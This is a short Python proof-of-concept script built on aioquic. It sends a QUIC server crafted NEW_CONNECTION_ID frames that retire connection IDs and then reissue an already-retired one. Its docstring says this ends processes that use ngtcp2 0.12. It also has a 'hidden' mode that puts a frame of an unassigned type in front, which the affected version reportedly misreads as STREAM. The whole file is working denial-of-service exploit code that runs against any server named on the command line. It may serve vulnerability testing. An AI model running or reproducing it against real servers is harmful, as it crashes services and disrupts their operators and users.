"""Does to a QUIC server what ends processes that use ngtcp2 0.12: has connection ids retired, and gives one out again that
is retired already. Written on aioquic. Prints how the server ends the connection, such as "error_code=10".

usage: quic_retirements.py URL CA-FILE [hidden]

hidden: behind a frame of a type that there is none of, which ngtcp2 0.12 takes for STREAM
"""

import asyncio
import os
import sys
from urllib.parse import urlsplit

from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated
from aioquic.quic.packet import QuicFrameType

# Sequence number, retire prior to.
FRAMES = [(5, 5), (3, 0), (3, 0)]


def write_frames(builder, connection_id):
    if FRAMES and sys.argv[3:] == ["hidden"]:
        frame = builder.start_frame(0x2A, capacity=8)
        frame.push_uint_var(0)
        frame.push_uint_var(0)
    while FRAMES:
        sequence, prior = FRAMES.pop(0)
        frame = builder.start_frame(QuicFrameType.NEW_CONNECTION_ID, capacity=64)
        frame.push_uint_var(sequence)
        frame.push_uint_var(prior)
        frame.push_uint8(8)
        frame.push_bytes(os.urandom(8))
        frame.push_bytes(os.urandom(16))


async def main():
    url, authority = urlsplit(sys.argv[1]), sys.argv[2]
    ended = asyncio.get_running_loop().create_future()

    class Client(QuicConnectionProtocol):
        def quic_event_received(self, event):
            if isinstance(event, ConnectionTerminated) and not ended.done():
                ended.set_result(event)

    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=["rtun/1"], server_name=url.hostname, idle_timeout=10
    )
    configuration.load_verify_locations(authority)
    async with connect(url.hostname, url.port, configuration=configuration, create_protocol=Client) as client:
        quic = client._quic
        quic._write_new_connection_id_frame = write_frames
        for identity in quic._host_cids:
            identity.was_sent = False
        client.transmit()
        event = await asyncio.wait_for(ended, 10)
        print(f"error_code={event.error_code}")


asyncio.run(main())
